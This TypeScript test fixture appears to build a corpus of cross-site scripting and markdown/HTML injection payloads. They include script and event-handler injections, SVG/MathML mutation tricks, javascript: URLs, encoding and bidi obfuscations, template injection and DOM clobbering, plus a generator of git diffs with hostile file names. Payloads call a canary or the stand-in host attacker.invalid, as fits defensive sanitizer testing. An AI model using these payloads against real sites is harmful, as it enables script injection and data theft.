// Texts that hope to be taken for more than text. Each that would run calls `limeCanary()`, each that would fetch asks
// attacker.invalid, a name that no server can ever have. To add one: its line in the group that it belongs to.

/** What a payload calls when it runs. */
export const CANARY = 'limeCanary';
/** Where a payload sends a request, or the person. */
export const FOREIGN_HOST = 'attacker.invalid';

const FROM_ELSEWHERE = `https://${FOREIGN_HOST}`;
const RUN = `${CANARY}()`;
/** In a frame of its own the canary is the parent's. */
const RUN_ABOVE = `parent.${RUN}`;
const DOLLAR = '$';

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt type=module>${RUN}</sCrIpT >`,
  `<script src=${FROM_ELSEWHERE}/x.js></script>`,
  `</script><script>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `"}]}</script><script>${RUN}</script>`,
  `';${RUN}//";${RUN}//*/${RUN}/*`,
];

const handlers = [
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>open</details>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<div style="animation:spin 1s" onanimationstart=${RUN}>x</div>`,
  `<img/src/onerror=${RUN}>`,
  `<img src=x:x onerror&equals;${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<xss tabindex=1 id=prompt onfocus=${RUN}>x</xss>`,
  `<div popover id=page onbeforetoggle=${RUN}>x</div><button popovertarget=page>x</button>`,
  `<p oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>x</p>`,
];

const foreignContent = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>text</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}" /><a id=x><text y=20>text</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${RUN_ABOVE}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<math href="javascript:${RUN}">click</math>`,
];

/** Read twice, these become another tree than the one that was looked at. */
const readTwice = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src=x>">`,
  `<textarea><title></textarea><img src=x onerror=${RUN}></title>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><?php ${RUN} ?>`,
];

const addresses = [
  `javascript:${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
  `<a href="&#106;avascript&colon;${CANARY}&lpar;&rpar;">x</a>`,
  `<iframe src="javascript:${RUN_ABOVE}"></iframe>`,
  `<iframe srcdoc="<script>${RUN_ABOVE}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN_ABOVE}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="${FROM_ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=${FROM_ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>Go</button></form>`,
  `<form id=f action=${FROM_ELSEWHERE}><input name=token></form><button form=f formaction="javascript:${RUN}">Go</button>`,
];

const requests = [
  `<link rel=stylesheet href=${FROM_ELSEWHERE}/x.css>`,
  `<link rel=prefetch href=${FROM_ELSEWHERE}/x><link rel=dns-prefetch href=//${FOREIGN_HOST}>`,
  `<style>@import url(${FROM_ELSEWHERE}/x.css);body{background:url(${FROM_ELSEWHERE}/x.png)}</style>`,
  `<p style="background:url(${FROM_ELSEWHERE}/x.png);position:fixed;inset:0;z-index:9999">covers the page</p>`,
  `<img src=${FROM_ELSEWHERE}/pixel.png>`,
  `<img srcset="${FROM_ELSEWHERE}/1.png 1x, ${FROM_ELSEWHERE}/2.png 2x">`,
  `<picture><source srcset=${FROM_ELSEWHERE}/p.png><img></picture>`,
  `<video poster=${FROM_ELSEWHERE}/p.png src=${FROM_ELSEWHERE}/v.mp4></video>`,
  `<input type=image src=${FROM_ELSEWHERE}/i.png>`,
  `<table background=${FROM_ELSEWHERE}/t.png><tr><td>x</td></tr></table>`,
  `<a ping=${FROM_ELSEWHERE}/ping href="#x">x</a>`,
];

const markdown = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt&colon;${RUN})`,
  `[x](java\nscript:${RUN})`,
  `[x](vbscript:${RUN})`,
  `[x](data:text/html;base64,${btoa(`<script>${RUN}</script>`)})`,
  `[x](<javascript:${RUN}> "title")`,
  `[x][r]\n\n[r]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `![x](${FROM_ELSEWHERE}/p.png "title")`,
  `![x](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `![x](javascript:${RUN})`,
  `[![x](${FROM_ELSEWHERE}/in.png)](${FROM_ELSEWHERE}/out)`,
  `![x"onerror="${RUN}](x)`,
  `[x](${FROM_ELSEWHERE}/"onmouseover="${RUN})`,
  `${FROM_ELSEWHERE}/<script>${RUN}</script>`,
  `www.${FOREIGN_HOST}/"><svg onload=${RUN}>`,
  `[x](//${FOREIGN_HOST}/path)`,
  `[x](/auth/logout) [y](/files/../auth/local?token=0)`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=${RUN}>\ncode\n\`\`\``,
  `\`<script>${RUN}</script>\``,
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n|---|---|\n| 1 | 2 |`,
  `x[^1]\n\n[^1]: <img src=x onerror=${RUN}> [y](javascript:${RUN})`,
  `- [ ] <svg onload=${RUN}>`,
  `# <img src=x onerror=${RUN}> {#x onclick=${RUN}}`,
  `<!-- a comment --> [x](javascript:${RUN}) <!--`,
  `<details><summary>x</summary>\n\n[x](javascript:${RUN})\n\n</details>`,
];

const written = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3csvg onload=${RUN}\\x3e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u017fcript>${RUN}</\u017fcript>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202e<script>${RUN}</script>\u202c`,
  `\u2066\u202ecod.exe<img src=x onerror=${RUN}>`,
  `\u001b]8;;javascript:${RUN}\u0007a link of a terminal\u001b]8;;\u0007`,
  `Z${'\u0301'.repeat(120)}<svg onload=${RUN}>`,
];

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `${DOLLAR}{${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
];

/** Names that every object has already. */
const inherited = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

const clobbering = [
  `<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href="javascript:${RUN}">x</a>`,
  `<form id=root><input name=parentNode><input name=innerHTML><input name=attributes></form>`,
  `<img name=getElementById><img name=cookie><img name=body>`,
  `<a id=prompt href="javascript:${RUN}">x</a>`,
];

const large = [
  'A'.repeat(20_000),
  `${FROM_ELSEWHERE}/${'a'.repeat(5_000)}`,
  `<b>${'<i>'.repeat(1_000)}${RUN}`,
  `${'>'.repeat(60)} [x](javascript:${RUN})`,
  `${'['.repeat(300)}x${`](javascript:${RUN})`.repeat(20)}`,
  `${'*_'.repeat(400)}<svg onload=${RUN}>`,
];

export const corpus: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreignContent,
  ...readTwice,
  ...addresses,
  ...requests,
  ...markdown,
  ...written,
  ...templates,
  ...inherited,
  ...clobbering,
  ...large,
];

/** Overrides, embeddings and isolates: the product refuses a line with one. */
const DIRECTION = /[\u202a-\u202e\u2066-\u2069]/;

/** Those that may stand in a line (a title, a name, a label) of at most so many characters. */
export const lines = (maxChars: number): readonly string[] => [
  ...new Set(
    corpus
      .filter((payload) => !DIRECTION.test(payload))
      .map((payload) => payload.replace(/[\p{Cc}\s]+/gu, ' ').trim())
      .filter((payload) => [...payload].length <= maxChars),
  ),
];

/** git's way to write a path that holds anything unusual. */
function quoted(path: string): string {
  const bytes = [...new TextEncoder().encode(path)].map((byte) =>
    byte < 32 || byte > 126 || byte === 34 || byte === 92
      ? `\\${byte.toString(8).padStart(3, '0')}`
      : String.fromCharCode(byte),
  );
  return `"${bytes.join('')}"`;
}

const ENDINGS = ['html', 'md', 'js', 'svg', 'vue', 'xml', 'tsx', 'css', 'json', 'php', 'constructor', '__proto__'];

/** A diff as git writes it: a new file for each text, which is the file's name, an old line and a new one. */
export function hostileDiff(texts: readonly string[]): string {
  return texts
    .map((text, index) => {
      const name = `${text.replaceAll('/', '\u2215').slice(0, 80)}.${ENDINGS[index % ENDINGS.length]}`;
      const [from, to] = [quoted(`a/${name}`), quoted(`b/${name}`)];
      const added = text.split('\n').map((line) => line.slice(0, 2_000));
      return [
        `diff --git ${from} ${to}`,
        'index 1111111..2222222 100644',
        `--- ${from}`,
        `+++ ${to}`,
        `@@ -1,2 +1,${added.length + 1} @@ ${added[0]?.slice(0, 200)}`,
        ` <p>${index}</p>`,
        `-${added[0]}`,
        ...added.map((line) => `+${line}`),
        '',
      ].join('\n');
    })
    .join('');
}
